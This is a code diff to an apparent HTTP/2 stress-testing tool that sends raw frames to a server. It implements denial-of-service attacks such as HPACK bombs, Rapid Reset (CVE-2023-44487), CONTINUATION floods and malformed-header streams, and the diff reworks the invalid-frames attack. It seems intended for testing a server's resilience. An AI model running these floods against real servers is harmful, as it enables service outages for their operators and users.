@@ -7,7 +7,7 @@
 Attacks (each for --seconds, reconnecting whenever the server closes a connection):
   hpack-bomb          header blocks of ~65,000 one-byte references to a 4 KiB dynamic-table entry
   rapid-reset         HEADERS then RST_STREAM(CANCEL) at once, on --connections connections (CVE-2023-44487)
-  invalid-frames      a stream opened, then WINDOW_UPDATE(0) on it (a stream error), again and again
+  invalid-frames      requests with an upper-case header name (a stream error: reset, the connection goes on)
   stream-flood        streams opened and never finished, far past SETTINGS_MAX_CONCURRENT_STREAMS
   continuation-flood  HEADERS without END_HEADERS followed by endless CONTINUATION frames
   settings-flood      SETTINGS frames, the server's ACKs never read
@@ -72,8 +72,9 @@ def literal_new_name(name: bytes, value: bytes, indexed: bool = False) -> bytes:
 
 
 def request_fields(path: str = HEALTH_CHECK) -> bytes:
-    """A gRPC request's fields, none of them indexed: :method POST, :scheme http, :path, content-type, te."""
-    return (bytes([0x83, 0x86]) + literal(4, path.encode()) + literal(31, b"application/grpc")
+    """A gRPC request's fields, none of them indexed: :method POST, :scheme http, :path, :authority, content-type,
+    te."""
+    return (bytes([0x83, 0x86]) + literal(4, path.encode()) + literal(1, b"localhost") + literal(31, b"application/grpc")
             + literal_new_name(b"te", b"trailers"))
 
 
@@ -104,6 +105,7 @@ class RawConnection:
         self.header_blocks: list[tuple[int, bytes]] = []  # (stream, HPACK block) of each HEADERS received
         self.reset_streams: dict[int, int] = {}
         self.next_stream = 1
+        self.send_timeout = timeout  # a send blocked this long fails (the server stopped reading)
         self.send(PREFACE + frame(SETTINGS, 0, 0))
 
     def stream_id(self) -> int:
@@ -115,15 +117,17 @@ class RawConnection:
         if self.closed:
             return False
         try:
+            self.sock.settimeout(self.send_timeout)
             self.sock.sendall(data)
             return True
         except OSError:
             self.closed = True
             return False
 
-    def poll(self, timeout: float = 0.0) -> None:
-        """Reads what has arrived (waiting up to `timeout` for the first bytes) and parses the frames."""
-        if self.closed:
+    def poll(self, timeout: float = 0.0, after_close: bool = False) -> None:
+        """Reads what has arrived (waiting up to `timeout` for the first bytes) and parses the frames. With
+        after_close, reads even after a send failed (the GOAWAY that explains why may still be there)."""
+        if self.closed and not after_close:
             return
         self.sock.settimeout(timeout if timeout > 0 else 0.0)
         while True:
@@ -197,7 +201,7 @@ class Tally:
         return conn
 
     def finished(self, conn: RawConnection) -> None:
-        conn.poll(0.0)
+        conn.poll(0.05, after_close=True)
         if conn.goaway is not None:
             code, debug = conn.goaway
             self.goaways[f"{code}:{debug.decode(errors='replace')}"] += 1
@@ -226,7 +230,7 @@ def repeat_on_connections(host, port, seconds, count, tally, step, read: bool = 
                     time.sleep(0.01)
                     continue
                 if not read:
-                    conn.sock.settimeout(1.0)
+                    conn.send_timeout = 1.0
             step(conn)
             if read:
                 conn.poll(0.0)
@@ -266,15 +270,11 @@ def attack_rapid_reset(host, port, seconds, connections, tally):
 
 
 def attack_invalid_frames(host, port, seconds, connections, tally):
-    block = request_fields()
+    # An upper-case field name is malformed (RFC 9113 §8.2.1): nghttp2 resets the stream and goes on.
+    block = request_fields() + literal_new_name(b"X-Invalid", b"1")
 
     def step(conn: RawConnection):
-        batch = []
-        for _ in range(20):
-            sid = conn.stream_id()
-            batch.append(frame(HEADERS, END_HEADERS, sid, block))
-            batch.append(frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0)))  # increment 0: a stream error
-        conn.send(b"".join(batch))
+        conn.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, conn.stream_id(), block) for _ in range(20)))
         tally.units += 20
 
     repeat_on_connections(host, port, seconds, connections, tally, step)
